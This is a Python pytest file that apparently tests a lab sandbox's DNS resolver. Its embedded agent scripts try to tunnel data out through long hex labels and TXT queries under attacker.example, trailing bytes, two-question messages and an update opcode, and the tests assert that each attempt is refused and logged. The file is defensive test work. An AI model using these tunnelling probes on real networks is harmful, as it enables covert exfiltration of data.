"""Hole 8, DNS as a tunnel: an unprivileged agent tries to carry data out through the resolver.

Long labels and TXT queries under an attacker's domain, names no rule allows, bytes trailing the
question, two questions in one message, another opcode: each is refused (REFUSED or FORMERR) and
the lab's nameserver, which logs every datagram it receives, sees none of them. Every query is on
record with its agent, pid and session. Controls in the same tests: an allowed name resolves, over
an unconnected socket and over a connected one (glibc's way), and a silent upstream gets the agent
SERVFAIL within the configured bound."""

from __future__ import annotations

import json
import sys

import pytest

from lab.https import LabDns
from lab.instance import Instance
from lab.testing import SLOWDOWN, instance_name, wait_until

pytestmark = pytest.mark.datapath
# An unprivileged uid no test selects by: a uid selector of an instance running at the same time
# (test_datapath selects 65533) would enrol these processes into that instance, host-wide.
UNPRIVILEGED = ["setpriv", "--reuid", "65532", "--regid", "65532", "--clear-groups"]
ALLOWED = "www.lab.test"
SILENT = "silent.lab.test"

POLICY = """\
default: deny
rules:
  - name: no-tunnels
    protocol: dns
    object: "*.attacker.example"
    decision: deny
    reason: names under attacker.example carry data out
  - name: lab-names
    protocol: dns
    object: "*.lab.test"
    decision: allow
  - name: dns-over-tcp
    protocol: dns
    operation: connect
    decision: allow
"""

# The agent: sends each query to the server host's port 53 (redirected to Interlock's resolver)
# and prints the rcode it got back (None: no answer within the bound).
AGENT = r"""
import json, os, socket, struct, sys
import dns.message
server, timeout = (sys.argv[1], 53), float(sys.argv[2])

def ask(raw, connected=False):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(timeout)
    if connected:
        s.connect(server)
        s.send(raw)
    else:
        s.sendto(raw, server)
    try:
        data = s.recv(4096)
    except OSError:
        return None
    return {"rcode": data[3] & 15, "answers": struct.unpack("!H", data[6:8])[0]}

def q(name, rdtype="A"):
    return dns.message.make_query(name, rdtype, use_edns=-1).to_wire()

chunk = os.urandom(31).hex()
two = bytearray(q("www.lab.test"))
two[5] = 2
two += b"\x06secret\x08attacker\x07example\x00\x00\x10\x00\x01"
update = bytearray(q("www.lab.test"))
update[2] |= 5 << 3
cases = {
    "long-labels-txt": q(f"{chunk}.{chunk}.{chunk}.x1.attacker.example", "TXT"),
    "a-under-attacker": q(f"a{chunk}.attacker.example"),
    "unlisted-name": q(f"b{chunk}.elsewhere.example"),
    "trailing-bytes": q("www.lab.test") + b"SECRET" + chunk.encode(),
    "two-questions": bytes(two),
    "update-opcode": bytes(update),
}
out = {k: ask(v) for k, v in cases.items()}
out["control"] = ask(q(sys.argv[3]))
out["control-connected"] = ask(q(sys.argv[3], "AAAA"), connected=True)
if len(sys.argv) > 4:
    out["silent"] = ask(q(sys.argv[4]))
print(json.dumps({"pid": os.getpid(), "uid": os.getuid(), "chunk": chunk, "results": out}))
"""


@pytest.fixture(scope="module")
def resolver(lab, tmp_path_factory):
    d = tmp_path_factory.mktemp("dnstunnel")
    dns = LabDns(lab.b, lab.b, names=(ALLOWED, SILENT), log=d / "seen.jsonl", silent=(SILENT,))
    policy = d / "policy.yaml"
    policy.write_text(POLICY)
    inst = Instance(lab.a, instance_name("dnst"), proxy_port=16301, dns_port=16353, policy=str(policy),
                    dns_upstream=lab.b.addr4, dns_timeout=1.0)
    try:
        inst.start()
        inst.dns = dns
        yield inst
    finally:
        inst.close()
        dns.stop()


def run_agent(inst: Instance, lab, *names: str, agent: str = "tunnel") -> dict:
    r = inst.agent([*UNPRIVILEGED, sys.executable, "-c", AGENT, lab.b.addr4, str(8 * SLOWDOWN), *names],
                   agent=agent, timeout=120 * SLOWDOWN)
    assert r.returncode == 0, r.stderr[-2000:]
    return json.loads(r.stdout.strip().splitlines()[-1])


def test_dns_exfiltration_is_refused_and_nothing_reaches_the_nameserver(resolver, lab):
    assert not resolver.events("dns-unavailable"), "the kernel names each datagram's socket"
    out = run_agent(resolver, lab, ALLOWED)
    res, chunk = out["results"], out["chunk"]
    assert out["uid"] == 65532
    # the attacks: refused by policy (REFUSED) or as malformed (FORMERR / NOTIMP)
    assert res["long-labels-txt"]["rcode"] == 5 and res["a-under-attacker"]["rcode"] == 5
    assert res["unlisted-name"]["rcode"] == 5, "default deny makes the dns rules an allow-list"
    assert res["trailing-bytes"]["rcode"] == 1 and res["two-questions"]["rcode"] == 1
    assert res["update-opcode"]["rcode"] == 4
    # the control: the allowed name resolves, unconnected and connected (as glibc asks)
    assert res["control"] == {"rcode": 0, "answers": 1} and res["control-connected"] == {"rcode": 0, "answers": 1}
    # on the server: the control arrived, nothing of the attacks did
    seen = wait_until(lambda: [s for s in resolver.dns.seen() if ALLOWED + "." in s["names"]])
    assert seen, "the lab nameserver saw the control query"
    everything = json.dumps(resolver.dns.seen())
    for needle in (chunk, chunk.encode().hex(), "attacker", "elsewhere", b"SECRET".hex()):
        assert needle not in everything, f"{needle} reached the nameserver"
    # on record: every query, with its agent, pid and session
    events = wait_until(lambda: (x := [e for e in resolver.events("dns") if e["data"].get("pid") == out["pid"]]) and
                        len(x) >= 8 and x)
    assert events and len(events) == 8, resolver.events("dns")
    assert all(e["data"]["agent"] == "tunnel" and e["session"] for e in events)
    outcomes = sorted(e["data"]["outcome"] for e in events)
    assert outcomes == ["answered"] * 2 + ["malformed"] * 3 + ["refused"] * 3
    sessions = {s["id"]: s for s in resolver.sessions("tunnel")}
    assert {e["session"] for e in events} <= set(sessions)
    assert all(sessions[e["session"]]["uid"] == 65532 and sessions[e["session"]]["protocol"] == "dns" for e in events)
    denied = {d["data"]["rule"] for d in resolver.events("decision") if d["data"]["protocol"] == "dns"
              and d["data"]["verdict"] == "deny"}
    assert denied == {"no-tunnels", "default"}


def test_a_silent_upstream_gets_servfail_within_the_bound(resolver, lab):
    out = run_agent(resolver, lab, ALLOWED, SILENT, agent="quiet")
    assert out["results"]["silent"] == {"rcode": 2, "answers": 0}, "SERVFAIL, not silence"
    assert out["results"]["control"]["rcode"] == 0
    assert any(SILENT + "." in s["names"] for s in resolver.dns.seen()), "the query did go upstream"
    fail = wait_until(lambda: [e["data"] for e in resolver.events("dns") if e["data"].get("name") == SILENT])
    assert fail and fail[-1]["outcome"] == "servfail" and "within 1s" in fail[-1]["reason"]
    assert fail[-1]["agent"] == "quiet" and fail[-1]["pid"] == out["pid"]


def test_a_datagram_no_hook_redirected_is_refused(resolver, lab):
    """Dialling the resolver port directly (not through the hooks) names no agent: refused."""
    script = ("import socket,sys,dns.message;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(5);"
              f"s.sendto(dns.message.make_query('{ALLOWED}','A').to_wire(),('127.0.0.1',16353));"
              "d=s.recv(4096);print(d[3]&15)")
    r = lab.a.run([*UNPRIVILEGED, sys.executable, "-c", script])
    assert r.stdout.strip() == "5", r.stderr[-1500:]
    assert any(e["data"].get("reason") == "no-origin" for e in resolver.events("dns"))


TCP_AGENT = r"""
import json, os, socket, struct, sys
import dns.message
s = socket.create_connection((sys.argv[1], 53), timeout=float(sys.argv[2]))

def ask(raw):
    s.sendall(struct.pack("!H", len(raw)) + raw)
    head = s.recv(2, socket.MSG_WAITALL)
    if len(head) < 2:
        return "closed"
    data = s.recv(struct.unpack("!H", head)[0], socket.MSG_WAITALL)
    return {"rcode": data[3] & 15, "answers": struct.unpack("!H", data[6:8])[0]}

def q(name, rdtype="A"):
    return dns.message.make_query(name, rdtype, use_edns=-1).to_wire()

chunk = os.urandom(31).hex()
out = {"control": ask(q(sys.argv[3])),
       "long-labels-txt": ask(q(f"{chunk}.{chunk}.x2.attacker.example", "TXT")),
       "control-again": ask(q(sys.argv[3], "AAAA")),
       "trailing-bytes": ask(q(sys.argv[3]) + b"SECRET" + chunk.encode())}
try:
    out["after"] = ask(q(sys.argv[3]))
except OSError as e:
    out["after"] = "closed"
print(json.dumps({"pid": os.getpid(), "chunk": chunk, "results": out}))
"""


def test_dns_over_tcp_gets_the_same_treatment(resolver, lab):
    r = resolver.agent([*UNPRIVILEGED, sys.executable, "-c", TCP_AGENT, lab.b.addr4, str(8 * SLOWDOWN), ALLOWED],
                       agent="tcp-tunnel", timeout=120 * SLOWDOWN)
    assert r.returncode == 0, r.stderr[-2000:]
    out = json.loads(r.stdout.strip().splitlines()[-1])
    res, chunk = out["results"], out["chunk"]
    assert res["control"] == {"rcode": 0, "answers": 1} and res["control-again"] == {"rcode": 0, "answers": 1}
    assert res["long-labels-txt"]["rcode"] == 5
    assert res["trailing-bytes"]["rcode"] == 1 and res["after"] == "closed", "FORMERR, then the connection ends"
    tcp_seen = [x for x in resolver.dns.seen() if x.get("transport") == "tcp"]
    assert any(ALLOWED + "." in x["names"] for x in tcp_seen), "the control reached the nameserver over TCP"
    assert chunk not in json.dumps(resolver.dns.seen()) and "attacker" not in json.dumps(tcp_seen)
    events = wait_until(lambda: (x := [e for e in resolver.events("dns") if e["data"].get("pid") == out["pid"]]) and
                        len(x) >= 4 and x)
    assert sorted(e["data"]["outcome"] for e in events) == ["answered", "answered", "malformed", "refused"]
    assert all(e["data"]["agent"] == "tcp-tunnel" and e["data"]["transport"] == "tcp" and e["session"] for e in events)
